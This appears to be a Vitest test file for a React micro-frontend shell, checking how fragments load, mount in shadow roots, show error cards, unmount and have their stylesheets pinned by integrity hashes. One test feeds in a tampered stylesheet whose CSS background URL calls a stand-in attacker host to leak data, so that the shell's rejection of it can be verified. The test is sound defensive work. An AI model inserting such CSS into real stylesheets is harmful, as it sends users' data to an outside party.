// @vitest-environment happy-dom
import { createEventBus, type FragmentContext, type FragmentModule } from "@platform/sdk";
import nodeConsole from "node:console";
import { createHash } from "node:crypto";
import { act } from "react";
import { createRoot, type Root } from "react-dom/client";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import type { ManifestFragment } from "../manifest";
import { manifestFragment } from "../testManifest";
import { FragmentArea, type ContextFactory } from "./FragmentArea";
import { FragmentError, importFragment } from "./loader";

// The import map and the browser's module loader are not here: the test hands out the module.
vi.mock("./loader", async (importOriginal) => ({ ...(await importOriginal<typeof import("./loader")>()), importFragment: vi.fn() }));
const loadModule = vi.mocked(importFragment);

const CSS = ".kpi{font-weight:700}";
const sha384 = (text: string) => `sha384-${createHash("sha384").update(text).digest("base64")}`;
const DASHBOARD: ManifestFragment = manifestFragment("dashboard", { version: "1.2.0", nav: { label: "Dashboard", order: 10 } });
const STYLED: ManifestFragment = { ...DASHBOARD, css: [{ url: "http://127.0.0.1:4101/fragments/dashboard/1.2.0/entry.css", integrity: sha384(CSS) }] };

/** A fragment that renders its name into the element it is given and records its life. */
function fakeFragment(mount?: (element: HTMLElement, context: FragmentContext) => void) {
  const unmount = vi.fn();
  const contexts: FragmentContext[] = [];
  const module: FragmentModule = {
    mount: vi.fn((element: HTMLElement, context: FragmentContext) => {
      contexts.push(context);
      mount?.(element, context);
      element.textContent = `${context.name} ${context.version} content`;
      return unmount;
    }),
  };
  return { module, unmount, contexts };
}

let container: HTMLElement;
let root: Root;
let onOutcome: ReturnType<typeof vi.fn<(fragment: ManifestFragment, error: FragmentError | null) => void>>;
let reload: ReturnType<typeof vi.spyOn>;
let warn: ReturnType<typeof vi.spyOn>;
const events = createEventBus();
const contextFor: ContextFactory = (fragment) => ({
  name: fragment.name,
  version: fragment.version,
  basePath: "/dashboard",
  user: { id: "u1", email: "ava@example.com", roles: ["member"] },
  getToken: async () => "access-1",
  navigate: () => undefined,
  events,
});

beforeEach(() => {
  (globalThis as { IS_REACT_ACT_ENVIRONMENT?: boolean }).IS_REACT_ACT_ENVIRONMENT = true;
  container = document.createElement("div");
  document.body.append(container);
  root = createRoot(container);
  onOutcome = vi.fn<(fragment: ManifestFragment, error: FragmentError | null) => void>();
  reload = vi.spyOn(location, "reload").mockImplementation(() => undefined);
  warn = vi.spyOn(console, "warn").mockImplementation(() => undefined);
  // happy-dom loads no stylesheet file: it reports each as failed, and the shell then asks
  // the fragment host (this fetch) whether the file was refused for its integrity.
  // It says so on its page's console: Node's own, which Vitest replaced for the test.
  vi.spyOn(nodeConsole, "error").mockImplementation(() => undefined);
  vi.stubGlobal("fetch", vi.fn(async () => new Response(CSS)));
  loadModule.mockReset();
});

afterEach(() => {
  act(() => root.unmount());
  container.remove();
  vi.unstubAllGlobals();
  vi.restoreAllMocks();
});

async function settled() {
  for (let round = 0; round < 5; round++) await act(async () => new Promise((resolve) => setTimeout(resolve, 0)));
}

async function showArea(fragment: ManifestFragment = DASHBOARD) {
  await act(async () => root.render(<FragmentArea fragment={fragment} label="Dashboard" contextFor={contextFor} onOutcome={onOutcome} />));
  await settled();
}

const area = () => container.querySelector("section")!;
const host = () => container.querySelector<HTMLElement>(".fragment-host")!;
const errorCard = () => container.querySelector('[role="alert"]');
const tryAgain = () => [...container.querySelectorAll("button")].find((b) => b.textContent === "Try again")!;

describe("a fragment's area", () => {
  it("says it is loading, then mounts the fragment inside its own shadow root", async () => {
    let loaded: (module: FragmentModule) => void = () => undefined;
    loadModule.mockReturnValue(new Promise((resolve) => (loaded = resolve)));
    await showArea();

    expect(area().getAttribute("aria-label")).toBe("Dashboard");
    expect(area().getAttribute("aria-busy")).toBe("true");
    expect(container.querySelector('[role="status"]')?.textContent).toBe(" Loading Dashboard…");
    expect(document.title).toBe("Dashboard · Platform");

    const { module, contexts } = fakeFragment();
    loaded(module);
    await settled();

    expect(area().getAttribute("aria-busy")).toBe("false");
    expect(container.querySelector('[role="status"]')).toBeNull();
    expect([host().dataset.fragment, host().dataset.version, host().hidden]).toEqual(["dashboard", "1.2.0", false]);
    // Its content lives in the shadow root: the shell's CSS cannot reach it, nor its CSS the shell.
    expect(host().shadowRoot?.textContent).toBe("dashboard 1.2.0 content");
    expect(container.textContent).not.toContain("dashboard 1.2.0 content");
    expect(contexts[0]).toMatchObject({ name: "dashboard", version: "1.2.0", basePath: "/dashboard", user: { id: "u1" } });
    expect(await contexts[0].getToken()).toBe("access-1");
    expect(onOutcome).toHaveBeenCalledExactlyOnceWith(DASHBOARD, null);
  });

  it.each([
    ["load", "dashboard 1.2.0 could not be loaded: its entry answered 404"],
    ["integrity", "dashboard 1.2.0 failed its integrity check: the file differs from the published one"],
  ] as const)("shows an error card when the entry fails (%s), and Try again loads the page anew", async (kind, message) => {
    loadModule.mockRejectedValue(new FragmentError(kind, message));
    await showArea();

    expect(errorCard()?.querySelector("h2")?.textContent).toBe("Dashboard could not be shown");
    expect(errorCard()?.textContent).toContain(message);
    expect(errorCard()?.querySelector(".error-kind")?.textContent).toBe(`Failure: ${kind}. The rest of the page still works.`);
    expect(host().hidden).toBe(true);
    expect(onOutcome).toHaveBeenCalledExactlyOnceWith(DASHBOARD, expect.objectContaining({ kind, message }));

    // The import map is fixed for the page's life: only a new page load gets what the registry serves now.
    await act(async () => tryAgain().click());
    expect(reload).toHaveBeenCalledOnce();
    expect(loadModule).toHaveBeenCalledOnce();
  });

  it("shows a fragment that throws while mounting as a mount failure, and Try again mounts it again in place", async () => {
    let attempts = 0;
    const { module } = fakeFragment(() => {
      if (++attempts === 1) throw new Error("cannot read the config");
    });
    loadModule.mockResolvedValue(module);
    await showArea();

    expect(errorCard()?.textContent).toContain("dashboard 1.2.0 failed while starting: cannot read the config");
    expect(errorCard()?.querySelector(".error-kind")?.textContent).toBe("Failure: mount. The rest of the page still works.");
    expect(onOutcome).toHaveBeenLastCalledWith(DASHBOARD, expect.objectContaining({ kind: "mount" }));

    await act(async () => tryAgain().click());
    await settled();
    expect(reload).not.toHaveBeenCalled();
    expect(errorCard()).toBeNull();
    expect(host().hidden).toBe(false);
    expect(host().shadowRoot?.textContent).toBe("dashboard 1.2.0 content");
    expect(onOutcome).toHaveBeenLastCalledWith(DASHBOARD, null);
  });

  it("shows an error the fragment reports while running, unmounts it, and mounts it again on Try again", async () => {
    const { module, unmount, contexts } = fakeFragment();
    loadModule.mockResolvedValue(module);
    await showArea();
    expect(errorCard()).toBeNull();

    await act(async () => contexts[0].reportError(new Error("board failed to render")));
    expect(errorCard()?.textContent).toContain("dashboard 1.2.0 stopped with an error: board failed to render");
    expect(errorCard()?.querySelector(".error-kind")?.textContent).toBe("Failure: runtime. The rest of the page still works.");
    expect(unmount).toHaveBeenCalledOnce();
    expect(onOutcome).toHaveBeenLastCalledWith(DASHBOARD, expect.objectContaining({ kind: "runtime" }));

    // A second report from the broken instance changes nothing.
    await act(async () => contexts[0].reportError("again"));
    expect(onOutcome).toHaveBeenCalledTimes(2);

    await act(async () => tryAgain().click());
    await settled();
    expect(module.mount).toHaveBeenCalledTimes(2);
    expect(errorCard()).toBeNull();
    expect(reload).not.toHaveBeenCalled();
  });

  it("unmounts the fragment when the page moves elsewhere, and only warns when that throws", async () => {
    const { module, unmount } = fakeFragment();
    unmount.mockImplementation(() => {
      throw new Error("already gone");
    });
    loadModule.mockResolvedValue(module);
    await showArea();

    act(() => root.render(<p>another page</p>));
    expect(unmount).toHaveBeenCalledOnce();
    expect(warn).toHaveBeenCalledWith("a fragment failed to unmount", expect.any(Error));
    expect(container.textContent).toBe("another page");
  });

  it("does not leave a fragment mounted that finished starting after the page moved on", async () => {
    let started: () => void = () => undefined;
    const unmount = vi.fn();
    loadModule.mockResolvedValue({ mount: () => new Promise((resolve) => (started = () => resolve(unmount))) });
    await showArea();

    act(() => root.render(<p>another page</p>));
    started();
    await settled();
    expect(unmount).toHaveBeenCalledOnce();
    expect(onOutcome).not.toHaveBeenCalled();
  });
});

describe("a fragment's stylesheets", () => {
  it("are linked inside its shadow root, pinned by integrity, and waited for before it mounts", async () => {
    let served: (response: Response) => void = () => undefined;
    vi.stubGlobal("fetch", vi.fn(() => new Promise<Response>((resolve) => (served = resolve))));
    const { module } = fakeFragment();
    loadModule.mockResolvedValue(module);
    await showArea(STYLED);

    const link = host().shadowRoot?.querySelector("link");
    expect([link?.rel, link?.href, link?.integrity, link?.crossOrigin]).toEqual(["stylesheet", STYLED.css![0].url, sha384(CSS), "anonymous"]);
    expect(document.head.querySelector("link")).toBeNull();
    expect(module.mount).not.toHaveBeenCalled();
    expect(container.querySelector('[role="status"]')).not.toBeNull();

    served(new Response(CSS));
    await settled();
    expect(module.mount).toHaveBeenCalledOnce();
    expect(onOutcome).toHaveBeenCalledExactlyOnceWith(STYLED, null);
  });

  it("fail the fragment with an integrity error when the file differs from the published one, without mounting it", async () => {
    vi.stubGlobal("fetch", vi.fn(async () => new Response(".kpi{background:url(https://evil.example/?leak)}")));
    const { module } = fakeFragment();
    loadModule.mockResolvedValue(module);
    await showArea(STYLED);

    expect(errorCard()?.textContent).toContain(`dashboard 1.2.0 failed its integrity check: its stylesheet ${STYLED.css![0].url} differs from the published one`);
    expect(errorCard()?.querySelector(".error-kind")?.textContent).toBe("Failure: integrity. The rest of the page still works.");
    expect(module.mount).not.toHaveBeenCalled();
    expect(onOutcome).toHaveBeenCalledExactlyOnceWith(STYLED, expect.objectContaining({ kind: "integrity" }));
  });

  it("leave out a stylesheet without integrity, and the fragment is shown without it", async () => {
    const { module } = fakeFragment();
    loadModule.mockResolvedValue(module);
    await showArea({ ...DASHBOARD, css: [{ url: "http://127.0.0.1:4101/unpinned.css", integrity: null }] });

    expect(host().shadowRoot?.querySelector("link")).toBeNull();
    expect(module.mount).toHaveBeenCalledOnce();
    expect(warn).toHaveBeenCalledWith("dashboard 1.2.0: a stylesheet without integrity is not linked", expect.anything());
  });
});
